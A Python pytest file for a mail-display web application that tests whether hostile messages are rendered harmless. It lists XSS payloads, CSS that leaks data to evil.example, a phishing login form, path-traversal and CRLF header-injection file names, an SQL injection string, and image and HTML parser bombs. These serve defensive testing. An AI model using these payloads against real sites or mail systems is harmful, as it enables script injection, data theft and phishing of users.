"""Hostile mail is shown without anything that runs, loads or misleads."""

import hashlib
import io
import os
import signal
import subprocess
import sys
import time
from collections.abc import Callable
from pathlib import Path

import pytest
from PIL import Image

from dtm_contact.web import conversions, converter
from dtm_contact.web.conversions import TooComplexError, safe_html, true_host
from dtm_contact.web.converter import CPU_SECONDS, ConversionError, Job
from tests.web.conftest import DeskAlone, Somebody, message, open_in

HOSTILE = {
    "script": "<script>alert(1)</script><p>Bonjour</p>",
    "handler": '<p onclick="alert(1)" onmouseover=alert(1)>Bonjour</p><img src=x onerror=alert(1)>',
    "style": "<style>body{background:url(//evil.example/?leak)}</style><p style='background:url(//evil.example)'>x",
    "css that reads": "<style>input[value^=a]{background:url(https://evil.example/a)}</style>",
    "svg": "<svg><script>alert(1)</script><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "svg animation": "<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>",
    "math": "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "refresh": '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    "base": '<base href="https://evil.example/"><a href="/file">File</a>',
    "javascript": '<a href="javascript:alert(1)">ici</a><a href="JaVa&#09;Script:alert(1)">là</a>',
    "data": '<a href="data:text/html,<script>alert(1)</script>">ici</a>',
    "vbscript": '<a href="vbscript:x">ici</a>',
    "form": '<form action="https://evil.example/"><input name="mot_de_passe"><button>Se connecter</button></form>',
    "frame": '<iframe src="https://evil.example/"></iframe><object data="x"></object><embed src="x">',
    "link": '<link rel="stylesheet" href="https://evil.example/x.css">',
    "image": '<img src="https://evil.example/pixel.gif"><picture><source srcset="https://evil.example/x"></picture>',
    "video": '<video src="https://evil.example/x" autoplay></video><audio src="x"></audio>',
    "our own names": '<div id="contenu" class="alarm" data-alarm="1" data-asks="/x" data-part="/x">x</div>',
    "comment": "<!--><script>alert(1)</script>-->",
    "noscript": '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "template": "<template><script>alert(1)</script></template>",
    "unclosed": "<p><b><i>" * 100 + "<script>alert(1)",
}
NEVER = (
    "<script", "onerror", "onclick", "onbegin", "onmouseover", "javascript:", "data:text", "vbscript:", "<style",
    "style=", "<svg", "<math", "<meta", "<base", "<form", "<input", "<iframe", "<object", "<embed", "<link", "<img",
    "srcset", "<video", "<audio", "data-asks", "data-part", "id=", "data-alarm", "<template",
)  # fmt: skip


@pytest.mark.parametrize("name", HOSTILE)
def test_nothing_of_it_is_left(name: str) -> None:
    shown = safe_html(HOSTILE[name]).lower()
    assert [sign for sign in NEVER if sign in shown] == []
    assert 'class="' not in shown.replace('class="host"', "")


@pytest.mark.parametrize("name", HOSTILE)
def test_the_pages_show_it_whole_and_harmless(desk: DeskAlone, agent: Somebody, name: str) -> None:
    source = HOSTILE[name]
    number = open_in(desk.store, "nord", "one", raw=message(source), new_text=source, subject=source[:80])
    case = agent.get(f"/dossier/{number}")
    assert case.status_code == 200
    assert source[:40] not in case.text or "<" not in source[:40]
    arrival = desk.store.cases.get(number).contacts[0].arrival_id
    layout = agent.get(f"/message/{arrival}")
    policy = layout.headers["content-security-policy"]
    assert "script-src 'self'" in policy
    assert "unsafe" not in policy
    assert "img-src 'self'" in policy
    inside = layout.text.split('class="letter"')[1].split("</main>")[0].lower()
    assert [sign for sign in NEVER if sign in inside] == []


@pytest.mark.parametrize(
    ("link", "host"),
    [
        ("https://parishabitat.fr.evil.example/login", "parishabitat.fr.evil.example"),
        ("https://parishabitat.fr@evil.example/", "evil.example"),
        ("https://pаrishabitat.fr/", "xn--prishabitat-q6i.fr"),
        ("http://192.0.2.7/x", "192.0.2.7"),
        ("mailto:a@evil.example", "a@evil.example"),
    ],
)
def test_a_link_tells_where_it_truly_leads(link: str, host: str) -> None:
    shown = safe_html(f'<a href="{link}">https://parishabitat.fr</a>')
    told = shown.split('class="host">[')[1].split("]")[0]
    assert told == host or told.startswith("xn--")
    assert told.isascii()
    assert 'rel="noopener noreferrer nofollow"' in shown


def test_a_link_that_cannot_be_read_says_so() -> None:
    assert true_host("https://[::bad") == "adresse illisible"


@pytest.mark.parametrize(
    "name", ["facture.pdf.exe", "../../etc/passwd", 'a"b\r\nX-Evil: 1.txt', "\u202egpj.exe", "é" * 300, "CON.txt", ""]
)
def test_a_file_is_saved_under_a_harmless_name_with_a_fixed_type(desk: DeskAlone, agent: Somebody, name: str) -> None:
    octets = b"<html><script>alert(1)</script>" + name.encode()
    folded = name.replace("\r\n", " ") or "x"
    number = open_in(desk.store, "nord", "one", raw=message(files={folded: octets}))
    arrival = desk.store.cases.get(number).contacts[0].arrival_id
    answer = agent.get(f"/piece/{arrival}/{hashlib.sha256(octets).hexdigest()}")
    assert answer.content == octets
    assert answer.headers["content-type"] == "application/octet-stream"
    assert answer.headers["x-content-type-options"] == "nosniff"
    assert "sandbox" in answer.headers["content-security-policy"]
    disposition = answer.headers["content-disposition"]
    assert disposition.startswith("attachment; ")
    assert not any(sign in disposition for sign in ("\r", "\n", "/", "..", "\u202e"))
    assert "x-evil" not in answer.headers


def test_a_photo_is_made_anew(desk: DeskAlone, agent: Somebody) -> None:
    made = io.BytesIO()
    Image.new("RGB", (3000, 2000), "teal").save(made, "JPEG", exif=b"Exif\x00\x00MM\x00*\x00\x00\x00\x08\x00\x00")
    octets = made.getvalue() + b"<script>alert(1)</script>"
    number = open_in(desk.store, "nord", "one", raw=message(files={"photo.jpg": octets}))
    arrival = desk.store.cases.get(number).contacts[0].arrival_id
    answer = agent.get(f"/piece/{arrival}/{hashlib.sha256(octets).hexdigest()}/vignette")
    assert answer.headers["content-type"] == "image/jpeg"
    assert answer.headers["cache-control"] == "no-store", "a log-out is the end of it"
    assert b"script" not in answer.content
    with Image.open(io.BytesIO(answer.content)) as image:
        assert max(image.size) == conversions.SMALL
        assert not image.getexif()


COSTLY = {
    "lists": "<ul><li>" * 10_000,
    "blocks": "<div>" * 100_000,
    "definitions": "<dl><dd>" * 10_000,
    "quotations": "<blockquote>" * 40_000,
    "formatting before blocks": "<b>" * 2000 + "<div></b>" * 20_000,
    "links before blocks": "<a href=x>" * 2000 + "<div></a>" * 20_000,
    "formatting, each otherwise": "".join(f"<b id={number}>" for number in range(20_000)),
}


@pytest.mark.parametrize("name", COSTLY)
def test_a_layout_that_takes_time_by_the_square_is_not_parsed_and_the_text_is_shown(
    desk: DeskAlone, agent: Somebody, name: str
) -> None:
    with pytest.raises(TooComplexError):
        safe_html(COSTLY[name])
    number = open_in(desk.store, "nord", "one", raw=message(COSTLY[name]), new_text="Bonjour, ça coule.")
    arrival = desk.store.cases.get(number).contacts[0].arrival_id
    before = cpu_seconds(desk)
    page = agent.get(f"/message/{arrival}")
    assert page.status_code == 200
    assert "trop compliquée" in page.text
    assert "Bonjour, ça coule." in page.text
    assert cpu_seconds(desk) - before < 2 * CPU_SECONDS


def cpu_seconds(desk: DeskAlone) -> float:
    """Return what this process and the converter have taken of the processor."""
    usage = (
        Path(f"/proc/{desk.converter.pid}/stat").read_text().rpartition(")")[2].split() if desk.converter.pid else []
    )
    ticks = int(usage[11]) + int(usage[12]) if usage else 0
    return time.process_time() + ticks / os.sysconf("SC_CLK_TCK")


@pytest.mark.usefixtures("fresh_interpreter")
def test_the_kernel_ends_what_takes_more_than_its_processor_time_or_memory() -> None:
    bounded = "from dtm_contact.web import converter; converter.CPU_SECONDS = 0; converter._bound()\n"
    busy = subprocess.run([sys.executable, "-c", f"{bounded}while True: pass"], check=False)
    assert busy.returncode == -signal.SIGXCPU
    large = subprocess.run(
        [sys.executable, "-c", f"{bounded}bytearray(2 * converter.MEMORY_OCTETS)"], check=False, capture_output=True
    )
    assert b"MemoryError" in large.stderr


def test_a_conversion_that_does_not_end_is_ended_and_the_next_is_made(
    desk: DeskAlone, monkeypatch: pytest.MonkeyPatch
) -> None:
    assert desk.converter.convert(Job.LAYOUT, b"<p>un</p>") == b"<p>un</p>"
    stopped = desk.converter.pid
    assert stopped is not None
    os.kill(stopped, signal.SIGSTOP)
    with monkeypatch.context() as patched:
        patched.setattr(converter, "_SECONDS", 0.2)
        with pytest.raises(ConversionError):
            desk.converter.convert(Job.LAYOUT, b"<p>deux</p>")
    assert desk.converter.convert(Job.LAYOUT, b"<p>trois</p>") == b"<p>trois</p>"
    assert desk.converter.pid != stopped


def picture(mode: str, width: int, height: int) -> bytes:
    made = io.BytesIO()
    Image.new(mode, (width, height)).save(made, "PNG")
    return made.getvalue()


@pytest.mark.parametrize(
    "made",
    [
        lambda: picture("1", 12_000, 12_000),
        lambda: picture("1", 1, 30_000),
        lambda: picture("I;16", 6000, 6000),
        lambda: b"\x89PNG\r\n\x1a\nnonsense",
        bytes,
        lambda: b"<svg xmlns='http://www.w3.org/2000/svg'/>",
        lambda: b"GIF89a" + b"\xff" * 50,
    ],
    ids=["bomb", "thin", "deep", "broken", "empty", "svg", "gif"],
)
def test_what_is_no_photo_is_none(made: Callable[[], bytes]) -> None:
    octets = made()
    with pytest.raises(conversions.NoPhotoError):
        conversions.reencoded(octets, conversions.SMALL)


def test_a_reply_holds_no_header_of_the_senders(desk: DeskAlone, agent: Somebody) -> None:
    subject = "Fuite\r\nBcc: tout@evil.example"
    number = open_in(desk.store, "nord", "one", subject=subject)
    answer = agent.post(f"/dossier/{number}/repondre", texte="Bonjour", a="x@evil.example\r\nBcc: y@evil.example")
    assert answer.status_code == 409, "the address is none of the case's"
    with desk.store.database.reading() as connection:
        assert connection.exec_driver_sql("SELECT count(*) FROM outbox").scalar_one() == 0


def test_search_and_filters_take_anything(agent: Somebody) -> None:
    for asked in ('"', "a OR b", "NEAR(", "*", "'; DROP TABLE cases;--", "<script>", "\x00", "é" * 300, "%", "{}"):
        answer = agent.client.send("GET", "/recherche", params={"q": asked})
        assert answer.status_code == 200, asked
        assert "<script>" not in answer.text.split("<main")[1]
        assert agent.client.send("GET", "/file", params={"apres": asked, "motif": asked}).status_code == 200, asked
